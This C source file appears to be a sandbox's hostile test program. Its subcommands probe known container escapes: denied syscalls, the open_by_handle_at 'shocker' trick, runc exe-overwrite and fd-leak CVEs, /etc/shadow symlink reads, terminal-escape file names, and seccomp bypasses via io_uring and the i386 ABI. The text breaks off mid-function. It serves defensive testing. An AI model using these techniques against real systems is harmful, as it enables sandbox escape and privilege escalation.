/* attack.c: the hostile suite's candidate program (tests/hostile/). Each subcommand tries
 * one known way out of a sandbox, or one way to exhaust or confuse it, and prints what
 * happened as "WHAT RESULT" lines, RESULT being OK (it worked: a hole), an errno's name,
 * or a figure. The shell cases decide from the outside whether the attack was contained;
 * these lines are only what the attacker saw.
 *
 *     attack NAME [ARG...]      (attack --help lists the names)
 *
 * Every attack is harmless where it succeeds by mistake: writes put back what they read,
 * TIOCSTI pushes a line that only echoes a marker, a remount asks for nothing new. So a
 * failing case tells of a hole without making one on the host.
 *
 * Statically linked and built without sanitizers, so that it runs in any root and does
 * not itself call what the policy denies.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <stdbool.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/kexec.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <linux/rtnetlink.h>
#include <linux/userfaultfd.h>
#include <net/if.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#ifndef UFFD_USER_MODE_ONLY
#define UFFD_USER_MODE_ONLY 1
#endif

static const char *err_name(int e)
{
	const char *n = strerrorname_np(e);
	return n ? n : "E?";
}

/* "WHAT OK" or "WHAT ERRNO" for a call's return value (errno read right after it) */
static void report(const char *what, long rc)
{
	int e = errno;
	printf("%s %s\n", what, rc < 0 ? err_name(e) : "OK");
	fflush(stdout);
}

/* ---- system calls a sandbox must refuse ---------------------------------------------- */

typedef long (*probe_fn)(void);

static long p_keyctl(void)
{
	return syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0);
}

static long p_add_key(void)
{
	return syscall(SYS_add_key, "user", "hostile", "x", 1, -3);
}

static long p_bpf(void)
{
	union bpf_attr attr;
	memset(&attr, 0, sizeof(attr));
	attr.map_type = BPF_MAP_TYPE_ARRAY;
	attr.key_size = 4;
	attr.value_size = 4;
	attr.max_entries = 1;
	long fd = syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr));
	if (fd >= 0)
		close((int)fd);
	return fd;
}

static long p_perf_event_open(void)
{
	struct perf_event_attr attr;
	memset(&attr, 0, sizeof(attr));
	attr.size = sizeof(attr);
	attr.type = PERF_TYPE_SOFTWARE;
	attr.config = PERF_COUNT_SW_TASK_CLOCK;
	attr.disabled = 1;
	attr.exclude_kernel = 1;
	attr.exclude_hv = 1;
	long fd = syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
	if (fd >= 0)
		close((int)fd);
	return fd;
}

static long p_userfaultfd(void)
{
	long fd = syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY);
	if (fd >= 0)
		close((int)fd);
	return fd;
}

static long p_io_uring_setup(void)
{
	char params[120];
	memset(params, 0, sizeof(params));
	long fd = syscall(SYS_io_uring_setup, 1, params);
	if (fd >= 0)
		close((int)fd);
	return fd;
}

static long p_kexec_load(void)
{
	return syscall(SYS_kexec_load, 0UL, 0UL, NULL, (unsigned long)KEXEC_ARCH_DEFAULT);
}

static long p_kexec_file_load(void)
{
	return syscall(SYS_kexec_file_load, -1, -1, 0UL, "", (unsigned long)KEXEC_FILE_UNLOAD);
}

static long p_init_module(void)
{
	return syscall(SYS_init_module, NULL, 0UL, "");
}

static long p_finit_module(void)
{
	return syscall(SYS_finit_module, -1, "", 0);
}

static long p_delete_module(void)
{
	return syscall(SYS_delete_module, "hostile_no_such_module", O_NONBLOCK);
}

static long p_reboot(void)
{
	/* CAD_OFF: the mildest command there is (ctrl-alt-del then signals init) */
	return syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, RB_DISABLE_CAD, NULL);
}

static long p_swapon(void)
{
	return syscall(SYS_swapon, "/nonexistent-hostile-swap", 0);
}

static long p_swapoff(void)
{
	return syscall(SYS_swapoff, "/nonexistent-hostile-swap");
}

static long p_acct(void)
{
	return syscall(SYS_acct, NULL); /* turn accounting off: nothing if it is off */
}

static long p_syslog(void)
{
	char buf[64];
	return syscall(SYS_syslog, 3 /* SYSLOG_ACTION_READ_ALL */, buf, (long)sizeof(buf));
}

static long p_personality_norandom(void)
{
	long rc = syscall(SYS_personality, (unsigned long)ADDR_NO_RANDOMIZE);
	return rc < 0 ? rc : 0;
}

static long p_personality_readexec(void)
{
	long rc = syscall(SYS_personality, (unsigned long)READ_IMPLIES_EXEC);
	return rc < 0 ? rc : 0;
}

static long p_personality_highbits(void)
{
	/* PER_LINUX with a bit above 32: the kernel reads an unsigned int */
	long rc = syscall(SYS_personality, (1UL << 32) | ADDR_NO_RANDOMIZE);
	return rc < 0 ? rc : 0;
}

static long p_unshare_user(void)
{
	return unshare(CLONE_NEWUSER);
}

/* a new user namespace, then a mount in it: the usual first step of a kernel exploit */
static long p_unshare_mount(void)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		return -1;
	return mount("none", "/tmp", "tmpfs", 0, NULL);
}

static long p_clone_newuser(void)
{
	long pid = syscall(SYS_clone, (unsigned long)(CLONE_NEWUSER | SIGCHLD), NULL, NULL, NULL, NULL);
	if (pid == 0)
		_exit(0);
	if (pid > 0)
		waitpid((pid_t)pid, NULL, 0);
	return pid;
}

static long p_clone3_newuser(void)
{
	struct {
		uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
	} args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
	long pid = syscall(SYS_clone3, &args, sizeof(args));
	if (pid == 0)
		_exit(0);
	if (pid > 0)
		waitpid((pid_t)pid, NULL, 0);
	return pid;
}

/* join any namespace of pid 1 (init) and of ourselves: all of them are the sandbox's */
static long p_setns(void)
{
	static const char *const ns[] = {"user", "mnt", "pid", "net", "ipc", "uts", "cgroup"};
	long worst = 0;
	for (size_t i = 0; i < sizeof(ns) / sizeof(ns[0]); i++) {
		char path[64];
		snprintf(path, sizeof(path), "/proc/1/ns/%s", ns[i]);
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			snprintf(path, sizeof(path), "/proc/self/ns/%s", ns[i]);
			fd = open(path, O_RDONLY | O_CLOEXEC);
		}
		if (fd < 0)
			continue;
		long rc = setns(fd, 0);
		int e = errno;
		close(fd);
		if (rc == 0)
			return 0;
		errno = e;
		worst = rc;
	}
	return worst;
}

/* the "shocker" escape: open the filesystem's root inode by handle, past the mounts */
static long p_open_by_handle_at(void)
{
	struct {
		unsigned int handle_bytes;
		int handle_type;
		unsigned char f_handle[8];
	} h = {8, 1 /* FILEID_INO32_GEN */, {2, 0, 0, 0, 0, 0, 0, 0}};
	int dir = open("/etc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	long fd = syscall(SYS_open_by_handle_at, dir, &h, O_RDONLY);
	int e = errno;
	if (fd >= 0)
		close((int)fd);
	close(dir);
	errno = e;
	return fd;
}

static long p_name_to_handle_at(void)
{
	struct {
		unsigned int handle_bytes;
		int handle_type;
		unsigned char f_handle[128];
	} h = {128, 0, {0}};
	int mount_id;
	return syscall(SYS_name_to_handle_at, AT_FDCWD, "/etc/passwd", &h, &mount_id, 0);
}

static long p_mknod_char(void)
{
	/* /dev/null's numbers: a device node, which needs CAP_MKNOD */
	long rc = mknod("/tmp/hostile-null", S_IFCHR | 0666, makedev(1, 3));
	int e = errno;
	unlink("/tmp/hostile-null");
	errno = e;
	return rc;
}

static long p_mknod_block(void)
{
	long rc = mknod("/tmp/hostile-disk", S_IFBLK | 0600, makedev(8, 0));
	int e = errno;
	unlink("/tmp/hostile-disk");
	errno = e;
	return rc;
}

static long p_mknod_fifo(void)
{
	long rc = mknod("/tmp/hostile-fifo", S_IFIFO | 0600, 0);
	int e = errno;
	unlink("/tmp/hostile-fifo");
	errno = e;
	return rc;
}

static long p_remount_root_rw(void)
{
	return mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
}

static long p_remount_usr_rw(void)
{
	return mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL);
}

static long p_umount_proc_sys(void)
{
	return umount2("/proc/sys", MNT_DETACH);
}

static long p_chroot(void)
{
	return chroot("/tmp");
}

static long p_pivot_root(void)
{
	return syscall(SYS_pivot_root, "/tmp", "/tmp");
}

static long p_settimeofday(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_REALTIME, &ts);
	return clock_settime(CLOCK_REALTIME, &ts); /* the time it already is */
}

static long p_sethostname(void)
{
	return sethostname("shipgate", 8); /* the name it already has */
}

static long p_iopl(void)
{
#ifdef SYS_iopl
	return syscall(SYS_iopl, 3);
#else
	errno = ENOSYS;
	return -1;
#endif
}

static long p_ptrace_traceme(void)
{
	return ptrace(PTRACE_TRACEME, 0, NULL, NULL);
}

/* attach to a sibling: a child of ours that only sleeps */
static long p_ptrace_sibling(void)
{
	pid_t child = fork();
	if (child == 0) {
		pause();
		_exit(0);
	}
	long rc = ptrace(PTRACE_ATTACH, child, NULL, NULL);
	int e = errno;
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	errno = e;
	return rc;
}

static long p_ptrace_init(void)
{
	return ptrace(PTRACE_ATTACH, 1, NULL, NULL);
}

static long p_process_vm_readv_init(void)
{
	char buf[16];
	struct iovec local = {buf, sizeof(buf)}, remote = {(void *)0x400000, sizeof(buf)};
	return process_vm_readv(1, &local, 1, &remote, 1, 0);
}

static long p_pidfd_getfd_init(void)
{
	long pfd = syscall(SYS_pidfd_open, 1, 0);
	if (pfd < 0)
		return pfd;
	long fd = syscall(SYS_pidfd_getfd, (int)pfd, 3, 0);
	int e = errno;
	close((int)pfd);
	errno = e;
	return fd;
}

static long p_socket_packet(void)
{
	long fd = socket(AF_PACKET, SOCK_RAW, htons(0x0003 /* ETH_P_ALL */));
	if (fd >= 0)
		close((int)fd);
	return fd;
}

static long p_socket_raw(void)
{
	long fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	if (fd >= 0)
		close((int)fd);
	return fd;
}

static long p_socket_vsock(void)
{
	long fd = socket(40 /* AF_VSOCK */, SOCK_STREAM, 0);
	if (fd >= 0)
		close((int)fd);
	return fd;
}

static long p_socket_alg(void)
{
	long fd = socket(38 /* AF_ALG */, SOCK_SEQPACKET, 0);
	if (fd >= 0)
		close((int)fd);
	return fd;
}

/* RTM_NEWLINK: create a dummy interface (what a candidate would do to reach out, or to
 * reach the kernel's rtnetlink code with CAP_NET_ADMIN). Answered by the kernel's ack. */
static long p_netlink_newlink(void)
{
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
	if (fd < 0)
		return -1;
	struct {
		struct nlmsghdr nh;
		struct ifinfomsg ifi;
		char attrs[64];
	} req;
	memset(&req, 0, sizeof(req));
	req.nh.nlmsg_type = RTM_NEWLINK;
	req.nh.nlmsg_flags = NLM_F_REQUEST | NLM_F_CREATE | NLM_F_EXCL | NLM_F_ACK;
	req.ifi.ifi_family = AF_UNSPEC;
	size_t len = NLMSG_LENGTH(sizeof(struct ifinfomsg));
	struct rtattr *name = (struct rtattr *)((char *)&req + NLMSG_ALIGN(len));
	name->rta_type = IFLA_IFNAME;
	name->rta_len = (unsigned short)RTA_LENGTH(sizeof("hostile0"));
	memcpy(RTA_DATA(name), "hostile0", sizeof("hostile0"));
	len = NLMSG_ALIGN(len) + RTA_ALIGN(name->rta_len);
	struct rtattr *info = (struct rtattr *)((char *)&req + len);
	info->rta_type = IFLA_LINKINFO;
	struct rtattr *kind = (struct rtattr *)RTA_DATA(info);
	kind->rta_type = IFLA_INFO_KIND;
	kind->rta_len = (unsigned short)RTA_LENGTH(sizeof("dummy"));
	memcpy(RTA_DATA(kind), "dummy", sizeof("dummy"));
	info->rta_len = (unsigned short)(RTA_LENGTH(0) + RTA_ALIGN(kind->rta_len));
	len += RTA_ALIGN(info->rta_len);
	req.nh.nlmsg_len = (unsigned)len;
	if (send(fd, &req, len, 0) < 0) {
		int e = errno;
		close(fd);
		errno = e;
		return -1;
	}
	char buf[512];
	ssize_t n = recv(fd, buf, sizeof(buf), 0);
	close(fd);
	if (n < (ssize_t)NLMSG_LENGTH(sizeof(struct nlmsgerr))) {
		errno = EPROTO;
		return -1;
	}
	struct nlmsgerr *ack = NLMSG_DATA((struct nlmsghdr *)buf);
	if (ack->error) {
		errno = -ack->error;
		return -1;
	}
	return 0;
}

/* RTM_NEWLINK on lo without IFF_UP: take the loopback interface down */
static long p_netlink_lo_down(void)
{
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
	if (fd < 0)
		return -1;
	struct {
		struct nlmsghdr nh;
		struct ifinfomsg ifi;
	} req;
	memset(&req, 0, sizeof(req));
	req.nh.nlmsg_len = NLMSG_LENGTH(sizeof(struct ifinfomsg));
	req.nh.nlmsg_type = RTM_NEWLINK;
	req.nh.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK;
	req.ifi.ifi_family = AF_UNSPEC;
	req.ifi.ifi_index = 1;
	req.ifi.ifi_change = IFF_UP;
	req.ifi.ifi_flags = 0;
	if (send(fd, &req, req.nh.nlmsg_len, 0) < 0) {
		int e = errno;
		close(fd);
		errno = e;
		return -1;
	}
	char buf[512];
	ssize_t n = recv(fd, buf, sizeof(buf), 0);
	close(fd);
	if (n < (ssize_t)NLMSG_LENGTH(sizeof(struct nlmsgerr))) {
		errno = EPROTO;
		return -1;
	}
	struct nlmsgerr *ack = NLMSG_DATA((struct nlmsghdr *)buf);
	errno = -ack->error;
	return ack->error ? -1 : 0;
}

static const struct {
	const char *name;
	probe_fn fn;
} probes[] = {
	{"keyctl", p_keyctl},
	{"add_key", p_add_key},
	{"bpf", p_bpf},
	{"perf_event_open", p_perf_event_open},
	{"userfaultfd", p_userfaultfd},
	{"io_uring_setup", p_io_uring_setup},
	{"kexec_load", p_kexec_load},
	{"kexec_file_load", p_kexec_file_load},
	{"init_module", p_init_module},
	{"finit_module", p_finit_module},
	{"delete_module", p_delete_module},
	{"reboot", p_reboot},
	{"swapon", p_swapon},
	{"swapoff", p_swapoff},
	{"acct", p_acct},
	{"syslog", p_syslog},
	{"personality_norandom", p_personality_norandom},
	{"personality_readexec", p_personality_readexec},
	{"personality_highbits", p_personality_highbits},
	{"unshare_user", p_unshare_user},
	{"unshare_mount", p_unshare_mount},
	{"clone_newuser", p_clone_newuser},
	{"clone3_newuser", p_clone3_newuser},
	{"setns", p_setns},
	{"open_by_handle_at", p_open_by_handle_at},
	{"name_to_handle_at", p_name_to_handle_at},
	{"mknod_char", p_mknod_char},
	{"mknod_block", p_mknod_block},
	{"mknod_fifo", p_mknod_fifo},
	{"remount_root_rw", p_remount_root_rw},
	{"remount_usr_rw", p_remount_usr_rw},
	{"umount_proc_sys", p_umount_proc_sys},
	{"chroot", p_chroot},
	{"pivot_root", p_pivot_root},
	{"settimeofday", p_settimeofday},
	{"sethostname", p_sethostname},
	{"iopl", p_iopl},
	{"ptrace_traceme", p_ptrace_traceme},
	{"ptrace_sibling", p_ptrace_sibling},
	{"ptrace_init", p_ptrace_init},
	{"process_vm_readv_init", p_process_vm_readv_init},
	{"pidfd_getfd_init", p_pidfd_getfd_init},
	{"socket_packet", p_socket_packet},
	{"socket_raw", p_socket_raw},
	{"socket_vsock", p_socket_vsock},
	{"socket_alg", p_socket_alg},
	{"netlink_newlink", p_netlink_newlink},
	{"netlink_lo_down", p_netlink_lo_down},
};

/* syscalls NAME...: each probe in a child of its own, so that one cannot change the next
 * (a successful unshare would hand the following ones a namespace full of capabilities) */
static int a_syscalls(int argc, char **argv)
{
	int rc = 0;
	for (int i = 0; i < argc; i++) {
		size_t k = 0;
		while (k < sizeof(probes) / sizeof(probes[0]) && strcmp(probes[k].name, argv[i]))
			k++;
		if (k == sizeof(probes) / sizeof(probes[0])) {
			printf("%s unknown\n", argv[i]);
			rc = 2;
			continue;
		}
		fflush(stdout);
		int pfd[2];
		if (pipe(pfd) < 0)
			return 1;
		pid_t pid = fork();
		if (pid == 0) {
			close(pfd[0]);
			long r = probes[k].fn();
			int e = r < 0 ? errno : 0;
			(void)!write(pfd[1], &e, sizeof(e));
			_exit(0);
		}
		close(pfd[1]);
		int e = -1;
		ssize_t got = read(pfd[0], &e, sizeof(e));
		close(pfd[0]);
		int status = 0;
		waitpid(pid, &status, 0);
		if (WIFSIGNALED(status))
			printf("%s SIG%s\n", argv[i], sigabbrev_np(WTERMSIG(status)) ? sigabbrev_np(WTERMSIG(status)) : "?");
		else if (got != (ssize_t)sizeof(e))
			printf("%s lost\n", argv[i]);
		else
			printf("%s %s\n", argv[i], e ? err_name(e) : "OK");
	}
	fflush(stdout);
	return rc;
}

/* ---- files ---------------------------------------------------------------------------- */

/* read PATH...: "PATH read N" with the bytes read (at most 4 KiB), or "PATH ERRNO" */
static int a_read(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		int fd = open(argv[i], O_RDONLY | O_CLOEXEC | O_NONBLOCK);
		if (fd < 0) {
			printf("%s %s\n", argv[i], err_name(errno));
			continue;
		}
		char buf[4096];
		ssize_t n = read(fd, buf, sizeof(buf));
		int e = errno;
		close(fd);
		if (n < 0)
			printf("%s read:%s\n", argv[i], err_name(e));
		else
			printf("%s read %zd\n", argv[i], n);
	}
	fflush(stdout);
	return 0;
}

/* rewrite PATH...: open for writing and put back the bytes that are there (harmless if it
 * works): "PATH OK" or "PATH ERRNO" at whichever step failed */
static int a_rewrite(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		char buf[256];
		ssize_t n = 0;
		int rfd = open(argv[i], O_RDONLY | O_CLOEXEC | O_NONBLOCK);
		if (rfd >= 0) {
			n = read(rfd, buf, sizeof(buf));
			close(rfd);
		}
		int fd = open(argv[i], O_WRONLY | O_CLOEXEC | O_NONBLOCK);
		if (fd < 0) {
			printf("%s %s\n", argv[i], err_name(errno));
			continue;
		}
		ssize_t w = n > 0 ? write(fd, buf, (size_t)n) : 0;
		int e = errno;
		close(fd);
		printf("%s %s\n", argv[i], w < 0 ? err_name(e) : "OK");
	}
	fflush(stdout);
	return 0;
}

/* exe: the runc CVE-2019-5736 family: open the binary of a process for writing, directly
 * and through an O_PATH descriptor reopened via /proc/self/fd */
static int a_exe(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	static const char *const targets[] = {"/proc/self/exe", "/proc/1/exe", "/proc/2/exe"};
	for (size_t i = 0; i < sizeof(targets) / sizeof(targets[0]); i++) {
		int fd = open(targets[i], O_WRONLY | O_CLOEXEC);
		printf("%s write %s\n", targets[i], fd < 0 ? err_name(errno) : "OK");
		if (fd >= 0)
			close(fd);
		fd = open(targets[i], O_RDONLY | O_CLOEXEC);
		printf("%s read %s\n", targets[i], fd < 0 ? err_name(errno) : "OK");
		if (fd >= 0)
			close(fd);
		int pfd = open(targets[i], O_PATH | O_CLOEXEC);
		if (pfd < 0) {
			printf("%s reopen %s\n", targets[i], err_name(errno));
			continue;
		}
		char via[64];
		snprintf(via, sizeof(via), "/proc/self/fd/%d", pfd);
		fd = open(via, O_WRONLY | O_CLOEXEC);
		printf("%s reopen %s\n", targets[i], fd < 0 ? err_name(errno) : "OK");
		if (fd >= 0)
			close(fd);
		close(pfd);
	}
	fflush(stdout);
	return 0;
}

/* fds: every descriptor from 3 to 1024 that is open (runc CVE-2024-21626 leaked one),
 * with what it names, and what cwd and root are */
static int a_fds(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	int open_fds = 0;
	for (int fd = 3; fd <= 1024; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		char link[64], target[512];
		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		ssize_t n = readlink(link, target, sizeof(target) - 1);
		target[n > 0 ? n : 0] = '\0';
		printf("fd %d %s\n", fd, target);
		open_fds++;
	}
	printf("open fds %d\n", open_fds);
	char cwd[512];
	printf("cwd %s\n", getcwd(cwd, sizeof(cwd)) ? cwd : err_name(errno));
	ssize_t n = readlink("/proc/self/root", cwd, sizeof(cwd) - 1);
	cwd[n > 0 ? n : 0] = '\0';
	printf("root %s\n", cwd);
	fflush(stdout);
	return 0;
}

/* idmap: write the uid and gid maps and setgroups of ourselves */
static int a_idmap(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	static const char *const files[][2] = {
		{"/proc/self/uid_map", "0 0 4294967295\n"},
		{"/proc/self/gid_map", "0 0 4294967295\n"},
		{"/proc/self/setgroups", "allow\n"},
		{"/proc/1/uid_map", "0 0 4294967295\n"},
	};
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		int fd = open(files[i][0], O_WRONLY | O_CLOEXEC);
		if (fd < 0) {
			printf("%s %s\n", files[i][0], err_name(errno));
			continue;
		}
		ssize_t w = write(fd, files[i][1], strlen(files[i][1]));
		int e = errno;
		close(fd);
		printf("%s %s\n", files[i][0], w < 0 ? err_name(e) : "OK");
	}
	fflush(stdout);
	return 0;
}

/* status: who we are, as the kernel says */
static int a_status(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	FILE *f = fopen("/proc/self/status", "r");
	if (!f)
		return 1;
	char line[256];
	while (fgets(line, sizeof(line), f))
		if (!strncmp(line, "Uid:", 4) || !strncmp(line, "Gid:", 4) || !strncmp(line, "Cap", 3) ||
		    !strncmp(line, "NoNewPrivs:", 11) || !strncmp(line, "Seccomp:", 8))
			fputs(line, stdout);
	fclose(f);
	printf("euid %d\n", (int)geteuid());
	fflush(stdout);
	return 0;
}

/* escape: ways out of /workspace by name: `..` past the root, a symlink to a host path,
 * a hard link to a file of another mount */
static int a_escape(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	char cwd[512];
	chdir("/workspace");
	for (int i = 0; i < 20; i++)
		chdir("..");
	printf("dotdot cwd %s\n", getcwd(cwd, sizeof(cwd)) ? cwd : err_name(errno));
	int fd = open("/workspace/../../../../../../etc/shadow", O_RDONLY | O_CLOEXEC);
	printf("dotdot shadow %s\n", fd < 0 ? err_name(errno) : "OK");
	if (fd >= 0)
		close(fd);
	unlink("/workspace/to-shadow");
	report("symlink create", symlink("/etc/shadow", "/workspace/to-shadow"));
	fd = open("/workspace/to-shadow", O_RDONLY | O_CLOEXEC);
	printf("symlink follow %s\n", fd < 0 ? err_name(errno) : "OK");
	if (fd >= 0)
		close(fd);
	report("hardlink passwd", link("/etc/passwd", "/workspace/hl-passwd"));
	report("hardlink tmp", link("/proc/self/exe", "/workspace/hl-exe"));
	fflush(stdout);
	return 0;
}

/* fill PATH: write 1 MiB blocks to PATH until the kernel refuses; "fill MIB ERRNO" */
static int a_fill(int argc, char **argv)
{
	if (argc < 1)
		return 2;
	long max_mib = argc > 1 ? atol(argv[1]) : 1L << 30;
	int fd = open(argv[0], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0) {
		printf("fill 0 %s\n", err_name(errno));
		return 0;
	}
	static char block[1 << 20];
	memset(block, 'x', sizeof(block));
	long mib = 0;
	int e = 0;
	for (; mib < max_mib; mib++) {
		ssize_t w = write(fd, block, sizeof(block));
		if (w < (ssize_t)sizeof(block)) {
			e = w < 0 ? errno : ENOSPC;
			break;
		}
	}
	close(fd);
	printf("fill %ld %s\n", mib, e ? err_name(e) : "done");
	fflush(stdout);
	return 0;
}

/* names: files whose names are made to break JSON, UTF-8 and terminals */
static int a_names(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	static const char *const names[] = {
		"new\nline",
		"bad-utf8-\xff\xfe-\xc3\x28",
		"esc-\x1b]0;HOSTILE-TITLE\x07-\x1b[2J\x1b[31mred",
		"quote\"back\\slash",
		"ctrl-\x01\x02\x7f-\x08\x08\x08",
		"c1-\xc2\x9b" "31m-csi",
		"overlong-\xc0\xaf",
		"surrogate-\xed\xa0\x80",
	};
	int made = 0;
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		int fd = open(names[i], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
		if (fd < 0)
			continue;
		(void)!write(fd, names[i], strlen(names[i]));
		close(fd);
		made++;
	}
	mkdir("dir-\x1b[2J", 0755);
	symlink("/etc/\x1b[2J\xff", "link-\x1b[31m");
	printf("made %d\n", made);
	fflush(stdout);
	return 0;
}

/* mount_esc: a denied call whose recorded arguments carry terminal escapes */
static int a_mount_esc(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	report("mount", mount("\x1b]0;HOSTILE-TITLE\x07\x1b[2J\xff", "/\x1b[31mred", "tmpfs", 0, NULL));
	return 0;
}

/* setid: make set-user-ID and set-group-ID files in the working directory by every
 * route there is (with a writable idmapped workspace, a file the sandbox's root makes is
 * the directory owner's on the host: root's, when shipgate runs as root). Each route
 * reports OK only if the file really has the bit afterwards. */
static char setid_path[64]; /* static: below 4 GiB, reachable by the i386 ABI */

static void setid_result(const char *route, long rc)
{
	int e = errno;
	struct stat st;
	bool has = stat(setid_path, &st) == 0 && (st.st_mode & (S_ISUID | S_ISGID));
	printf("setid %s %s\n", route, has ? "OK" : rc < 0 ? err_name(e) : "cleared");
	fflush(stdout); /* the next route may be killed (the policy kills the i386 ABI) */
	if (has) {
		/* left for the host to find */
		char kept[96];
		snprintf(kept, sizeof(kept), "setid-made-by-%s", route);
		rename(setid_path, kept);
	}
	unlink(setid_path);
}

/* IORING_OP_OPENAT with a set-ID mode: io_uring's operations are not system calls, so no
 * seccomp filter sees them */
static long setid_io_uring(void)
{
	struct {
		uint32_t sq_entries, cq_entries, flags, sq_thread_cpu, sq_thread_idle, features, wq_fd,
			resv[3];
		uint32_t sq_off[10];
		uint32_t cq_off[10];
	} p;
	memset(&p, 0, sizeof(p));
	long fd = syscall(SYS_io_uring_setup, 1, &p);
	if (fd < 0)
		return -1;
	/* sq_off: head, tail, ring_mask, ring_entries, flags, dropped, array; cq_off: head,
	 * tail, ring_mask, ring_entries, overflow, cqes */
	size_t sq_len = p.sq_off[6] + p.sq_entries * sizeof(uint32_t);
	size_t cq_len = p.cq_off[5] + p.cq_entries * 16;
	char *sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED, (int)fd, 0);
	char *cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED, (int)fd, 0x8000000);
	unsigned char *sqe = mmap(NULL, 64, PROT_READ | PROT_WRITE, MAP_SHARED, (int)fd, 0x10000000);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqe == MAP_FAILED) {
		close((int)fd);
		return -1;
	}
	memset(sqe, 0, 64);
	sqe[0] = 18; /* IORING_OP_OPENAT */
	int32_t dfd = AT_FDCWD;
	memcpy(sqe + 4, &dfd, 4);                          /* fd */
	uint64_t addr = (uint64_t)(uintptr_t)setid_path;
	memcpy(sqe + 16, &addr, 8);                        /* addr: the path */
	uint32_t mode = 04755;
	memcpy(sqe + 24, &mode, 4);                        /* len: the mode */
	uint32_t flags = O_CREAT | O_WRONLY;
	memcpy(sqe + 28, &flags, 4);                       /* open_flags */
	uint32_t *array = (uint32_t *)(sq + p.sq_off[6]);
	array[0] = 0;
	__atomic_store_n((uint32_t *)(sq + p.sq_off[1]), 1, __ATOMIC_RELEASE);
	long rc = syscall(SYS_io_uring_enter, (int)fd, 1, 1, 1 /* IORING_ENTER_GETEVENTS */, NULL, 0);
	int32_t res = rc < 0 ? -errno : *(int32_t *)(cq + p.cq_off[5] + 8);
	if (res >= 0) {
		/* the create mode is masked by the umask: set it again with fchmod through
		 * io_uring is not possible, so report what the open made */
		close(res);
	}
	close((int)fd);
	errno = res < 0 ? -res : 0;
	return res < 0 ? -1 : 0;
}

/* chmod through the i386 ABI (int 0x80: chmod is 15 there), which a filter written for
 * x86_64 does not read */
static long setid_int80(void)
{
#if defined(__x86_64__)
	long rc;
	__asm__ volatile("int $0x80" : "=a"(rc) : "a"(15), "b"((long)(uintptr_t)setid_path), "c"(04755L)
			 : "memory");
	if (rc < 0) {
		errno = (int)-rc;
		return -1;
	}
	return 0;
#else
	errno = ENOSYS;
	return -1;
#endif
}

static int a_setid(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	umask(0);
	snprintf(setid_path, sizeof(setid_path), "setid-file");
	int fd;
#define FRESH() (close(open(setid_path, O_CREAT | O_WRONLY, 0755)))
	FRESH();
	setid_result("chmod", chmod(setid_path, 04755));
	FRESH();
	fd = open(setid_path, O_WRONLY);
	setid_result("fchmod", fchmod(fd, 02755));
	close(fd);
	FRESH();
	setid_result("fchmodat", syscall(SYS_fchmodat, AT_FDCWD, setid_path, 04755));
	FRESH();
	setid_result("fchmodat2", syscall(452, AT_FDCWD, setid_path, 04755, 0));
	fd = open(setid_path, O_CREAT | O_WRONLY, 04755);
	setid_result("open", fd);
	if (fd >= 0)
		close(fd);
	fd = openat(AT_FDCWD, setid_path, O_CREAT | O_WRONLY, 04755);
	setid_result("openat", fd);
	if (fd >= 0)
		close(fd);
	fd = creat(setid_path, 04755);
	setid_result("creat", fd);
	if (fd >= 0)
		close(fd);
	setid_result("mknod", mknod(setid_path, S_IFREG | 04755, 0));
	setid_result("mknodat", mknodat(AT_FDCWD, setid_path, S_IFREG | 04755, 0));
	struct {
		uint64_t flags, mode, resolve;
